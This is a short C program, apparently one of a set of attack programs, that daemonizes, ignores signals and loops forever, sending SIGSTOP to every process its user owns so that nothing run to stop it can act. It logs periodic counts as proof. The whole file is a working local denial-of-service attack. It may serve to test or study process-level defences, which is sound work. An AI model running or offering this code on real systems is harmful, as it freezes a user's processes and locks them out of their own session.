/* Stops everything of its user, again and again: whatever runs under this uid to end it stands still. */
#include "attack.h"

int main(void) {
    be_deaf();
    daemonize();
    for (unsigned long stops = 1;; stops++) {
        kill(-1, SIGSTOP);
        if (stops % 10000 == 1) prove("stops", stops);
    }
}
